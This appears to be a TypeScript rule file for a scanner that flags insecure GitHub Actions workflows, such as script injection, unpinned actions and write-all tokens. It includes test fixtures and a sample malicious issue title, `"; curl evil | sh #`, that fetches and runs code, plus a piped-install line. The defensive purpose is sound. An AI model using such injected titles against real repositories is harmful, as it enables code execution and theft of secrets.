import type { SettingCheck, SettingMatch } from './setting-check.ts'
import type { Entry, SettingFile } from './setting-file.ts'
import { findOffsets, pipedDownload } from './shell-text.ts'

const base = { target: 'workflow' } as const

/** What anybody who opens an issue or a pull request writes. */
const outsideText =
  /\$\{\{[^}]{0,500}\bgithub\.(event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|(comment|review|review_comment)\.body|discussion\.(title|body)|(head_commit|commits\[?[^}]{0,100}\]?|commits\.\*)\.(message|author\.(name|email))|workflow_run\.(head_branch|display_title|head_commit\.message)|pages\.\*?\.?page_name)|head_ref)\b[^}]{0,500}\}\}/

const headRef =
  /github\.(event\.pull_request\.(head|number|merge_commit_sha)|head_ref|event\.workflow_run\.head)|refs\/pull\//

function isTriggeredByOthers({ entries }: SettingFile): boolean {
  return entries.some(({ path, value }) => {
    if (path[0] !== 'on' && path[0] !== 'true') return false
    return (
      value === 'pull_request_target' ||
      path.includes('pull_request_target') ||
      path[1] === 'workflow_run'
    )
  })
}

/** `true` in YAML 1.1 is how some parsers read the key `on`; the trigger may also be the bare word. */
function findSteps({ entries }: SettingFile, key: string): Entry[] {
  return entries.filter(({ path }) => path.includes('steps') && path.at(-1) === key)
}

/** Scripts that a shell or github-script runs, with where their text starts. */
function findScripts(file: SettingFile): Entry[] {
  return [...findSteps(file, 'run'), ...findSteps(file, 'script')]
}

/** Offsets are those of the raw text: a block scalar's value starts after its indicator. */
function matchScripts(file: SettingFile, pattern: RegExp): SettingMatch[] {
  return findScripts(file).flatMap(({ offset, value }) => {
    if (!pattern.test(value)) return []
    const raw = file.text.slice(offset, offset + rawLength(value))
    const [found] = findOffsets(raw, pattern, offset)
    return [{ offset: found ?? offset }]
  })
}

/** Indentation and escapes make the raw text of a scalar longer than its value. */
function rawLength(value: string): number {
  return value.length + 40 * (value.split('\n').length + 2)
}

export const workflowChecks: readonly SettingCheck[] = [
  {
    ...base,
    id: 'workflow-checks-out-pull-request',
    title: 'Workflow with secrets checks out the code of a pull request',
    severity: 'high',
    standing: 'finding',
    cwe: 'CWE-829',
    message:
      'pull_request_target and workflow_run run with the secrets and the write token of this repository; code of a stranger that they check out and build can take both.',
    suggestion:
      'Use pull_request for what runs the code, or check out the base and never run what the pull request brings.',
    find: (file) => {
      if (!isTriggeredByOthers(file)) return []
      return file.entries
        .filter(
          ({ path, value }) =>
            path.includes('steps') && path.at(-1) === 'ref' && headRef.test(value),
        )
        .map(({ offset }) => ({ offset }))
    },
    positive: `on: pull_request_target
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm test
`,
    negative: `on: pull_request
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
`,
  },
  {
    ...base,
    id: 'workflow-script-injection',
    title: 'Text of an issue or a pull request becomes part of a script',
    severity: 'high',
    standing: 'finding',
    cwe: 'CWE-78',
    message:
      'The expression is put into the script before the shell reads it, so a title such as `"; curl evil | sh #` is a command.',
    suggestion: 'Put the expression into env and use the variable, quoted, in the script.',
    find: (file) => matchScripts(file, outsideText),
    positive: `on: issues
jobs:
  greet:
    steps:
      - run: |
          echo start
          echo "\${{ github.event.issue.title }}"
`,
    negative: `on: issues
jobs:
  greet:
    steps:
      - run: echo "$TITLE" \${{ github.event.issue.number }}
        env:
          TITLE: \${{ github.event.issue.title }}
`,
  },
  {
    ...base,
    id: 'workflow-write-all',
    title: 'Workflow token may write everything',
    severity: 'medium',
    standing: 'finding',
    cwe: 'CWE-250',
    message:
      'Every action and script of the workflow gets a token that can change code, releases and packages.',
    suggestion: 'Name the permissions the jobs need, and read for the rest.',
    find: ({ entries }) =>
      entries
        .filter(({ path, value }) => path.at(-1) === 'permissions' && value === 'write-all')
        .map(({ offset }) => ({ offset })),
    positive: `on: push
permissions: write-all
`,
    negative: `on: push
permissions:
  contents: read
`,
  },
  {
    ...base,
    id: 'workflow-unpinned-action',
    title: 'Third-party action not pinned to a commit',
    severity: 'low',
    standing: 'finding',
    cwe: 'CWE-829',
    message:
      'Whoever can move the tag of that action runs code with the token and the secrets of this workflow.',
    suggestion: 'Pin the action to a full commit id and let a bot update it.',
    find: (file) => {
      const loose = file.entries.filter(
        ({ path, value }) =>
          path.at(-1) === 'uses' &&
          /^[\w.-]+\/[\w./-]+@/.test(value) &&
          !/^(actions|github)\//.test(value) &&
          !/@[0-9a-f]{40}$/.test(value),
      )
      const [first] = loose
      if (first === undefined) return []
      const rest = loose.length === 1 ? '' : ` and ${loose.length - 1} more in this file`
      return [{ offset: first.offset, detail: `\`${first.value}\`${rest}.` }]
    },
    positive: `on: push
jobs:
  test:
    steps:
      - uses: someone/deploy@v2
`,
    negative: `on: push
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
      - uses: someone/deploy@0123456789abcdef0123456789abcdef01234567
      - uses: ./.github/actions/own
`,
  },
  {
    ...base,
    id: 'workflow-piped-download',
    title: 'Workflow runs what it downloads',
    severity: 'low',
    standing: 'finding',
    cwe: 'CWE-494',
    message:
      'Whatever the other end sends at that moment runs with the token and the secrets of this job.',
    suggestion: 'Download a fixed version, compare its checksum, then run it.',
    find: (file) => matchScripts(file, pipedDownload),
    positive: `on: push
jobs:
  test:
    steps:
      - run: curl -sSf https://example.com/install.sh | sh
`,
    negative: `on: push
jobs:
  test:
    steps:
      - run: curl -sSf https://example.com/data.json | jq .
`,
  },
]
